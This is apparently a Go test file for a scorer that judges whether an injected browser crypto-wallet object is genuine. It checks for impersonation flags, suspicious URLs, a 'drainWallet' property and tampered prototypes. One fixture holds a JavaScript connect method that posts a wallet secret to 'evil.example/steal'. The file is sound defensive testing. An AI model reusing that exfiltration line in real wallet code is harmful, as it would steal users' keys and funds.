package authenticity

import (
	"context"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/weisyn/connector/pkg/wallet"
)

type noopFeature struct{}

func (noopFeature) Connect(context.Context, wallet.ConnectInput) (wallet.ConnectOutput, error) {
	return wallet.ConnectOutput{}, nil
}
func (noopFeature) Disconnect(context.Context) error { return nil }

func standardWallet(name string) *wallet.Static {
	return wallet.NewStatic(name, "data:image/png;base64,AAAA", []string{"solana:mainnet", "solana:devnet"}, wallet.Features{
		wallet.FeatureConnect:         noopFeature{},
		wallet.FeatureDisconnect:      noopFeature{},
		wallet.FeatureEvents:          struct{}{},
		wallet.FeatureSignTransaction: struct{}{},
		wallet.FeatureSignMessage:     struct{}{},
	})
}

func legacyObject() *wallet.Object {
	noop := func(context.Context, ...any) (any, error) { return nil, nil }
	return wallet.NewObject().
		Set("isPhantom", true).
		Set("publicKey", "11111111111111111111111111111111").
		Set("connect", wallet.NewMethod("async connect(opts){ return this._bridge.request('connect', opts) }", noop)).
		Set("disconnect", wallet.NewMethod("async disconnect(){ return this._bridge.request('disconnect') }", noop)).
		Set("on", wallet.NewMethod("", noop)).
		Set("signTransaction", wallet.NewMethod("", noop))
}

func TestEmptyObjectIsNotAuthentic(t *testing.T) {
	scorer := New(DefaultConfig())
	result := scorer.Verify(wallet.NewObject(), "")

	assert.False(t, result.Authentic)
	assert.InDelta(t, 0.405, result.Confidence, 1e-9)
	assert.NotEmpty(t, result.Warnings)

	assert.False(t, scorer.Verify(nil, "Phantom").Authentic)
}

func TestStandardWalletIsAuthentic(t *testing.T) {
	scorer := New(DefaultConfig())
	result := scorer.VerifyWallet(standardWallet("Phantom"), "Phantom")

	assert.True(t, result.Authentic)
	assert.InDelta(t, 1.0, result.Confidence, 1e-9)
	assert.Equal(t, 1.0, result.SecurityScore.ChainSupport)
	assert.Equal(t, 1.0, result.SecurityScore.IdentityConsistency)
}

func TestLegacyWalletIsAuthentic(t *testing.T) {
	scorer := New(DefaultConfig())
	result := scorer.Verify(legacyObject(), "phantom")

	assert.True(t, result.Authentic, Report(result))
	assert.Equal(t, 0.5, result.SecurityScore.ChainSupport)
	assert.Equal(t, 0.8, result.SecurityScore.IdentityConsistency)
	assert.Equal(t, 1.0, result.SecurityScore.MethodIntegrity)
}

func TestBlocklistedPropertyZeroesMaliciousScore(t *testing.T) {
	scorer := New(DefaultConfig())
	w := standardWallet("Phantom")
	obj := wallet.ObjectFromWallet(w).Set("drainWallet", true)

	result := scorer.Verify(obj, "Phantom")
	assert.Equal(t, 0.0, result.SecurityScore.MaliciousPatterns)
	assert.False(t, result.Authentic)
	assert.Equal(t, "malicious patterns detected", result.Reason)
	assert.True(t, scorer.IsMalicious(result))
	// 其余项满分也无法抵消
	assert.GreaterOrEqual(t, result.Confidence, 0.6)
}

func TestImpersonationFlags(t *testing.T) {
	scorer := New(DefaultConfig())
	obj := legacyObject().
		Set("isSolflare", true).
		Set("isBackpack", true)

	result := scorer.Verify(obj, "Phantom")
	assert.InDelta(t, 0.7, result.SecurityScore.MaliciousPatterns, 1e-9)
}

func TestSuspiciousURLs(t *testing.T) {
	scorer := New(DefaultConfig())
	cases := map[string]bool{
		"https://bit.ly/abc":              true,
		"http://192.168.1.20/wallet":      true,
		"https://phantom-wallet.tk":       true,
		"https://a.b.c.d.e.phantom.app":   true,
		"phantom.app":                     false,
		"https://docs.phantom.app/solana": false,
	}
	for raw, suspicious := range cases {
		t.Run(raw, func(t *testing.T) {
			result := scorer.Verify(legacyObject().Set("websiteUrl", raw), "Phantom")
			if suspicious {
				assert.InDelta(t, 0.8, result.SecurityScore.MaliciousPatterns, 1e-9)
			} else {
				assert.Equal(t, 1.0, result.SecurityScore.MaliciousPatterns)
			}
		})
	}
}

func TestTamperedPrototypeAndBloatedObject(t *testing.T) {
	scorer := New(DefaultConfig())
	obj := legacyObject().MarkPrototypeTampered()
	for i := 0; i < 110; i++ {
		obj.Set(fmt.Sprintf("prop%d", i), i)
	}

	result := scorer.Verify(obj, "Phantom")
	assert.InDelta(t, 0.5, result.SecurityScore.MaliciousPatterns, 1e-9)
	assert.False(t, result.Authentic)
}

func TestExfiltratingMethodFailsIntegrity(t *testing.T) {
	scorer := New(DefaultConfig())
	obj := legacyObject().Set("connect", wallet.NewMethod(
		"async connect(){ fetch('https://evil.example/steal', {body: this.secret}) }",
		func(context.Context, ...any) (any, error) { return nil, nil },
	))

	result := scorer.Verify(obj, "Phantom")
	assert.Equal(t, 0.5, result.SecurityScore.MethodIntegrity)
	assert.Contains(t, Report(result), "suspicious call")
}

func TestIdentityMismatch(t *testing.T) {
	scorer := New(DefaultConfig())
	result := scorer.VerifyWallet(standardWallet("Solflare"), "Phantom")
	assert.Equal(t, 0.0, result.SecurityScore.IdentityConsistency)
}

func TestConfidenceAlwaysInRange(t *testing.T) {
	scorer := New(Config{Weights: Weights{1, 1, 1, 1, 1}})
	for _, obj := range []*wallet.Object{wallet.NewObject(), legacyObject(), wallet.ObjectFromWallet(standardWallet("X"))} {
		result := scorer.Verify(obj, "X")
		assert.GreaterOrEqual(t, result.Confidence, 0.0)
		assert.LessOrEqual(t, result.Confidence, 1.0)
	}
}

func TestVerifyBatch(t *testing.T) {
	scorer := New(DefaultConfig())
	results := scorer.VerifyBatch([]Candidate{
		{Object: wallet.NewObject()},
		{Object: legacyObject(), ExpectedName: "Phantom"},
	})
	require.Len(t, results, 2)
	assert.False(t, results[0].Authentic)
	assert.True(t, results[1].Authentic)
}

func TestCustomThreshold(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Threshold = 0.4
	result := New(cfg).Verify(wallet.NewObject(), "")
	assert.True(t, result.Authentic)
}

func TestIdentityFlag(t *testing.T) {
	assert.Equal(t, "isPhantom", IdentityFlag("phantom"))
	assert.Equal(t, "isTrustWallet", IdentityFlag("Trust Wallet"))
	assert.Equal(t, "", IdentityFlag(" "))
	assert.True(t, HasIdentityFlag(wallet.NewObject().Set("isBackpackWallet", true), "Backpack"))
}
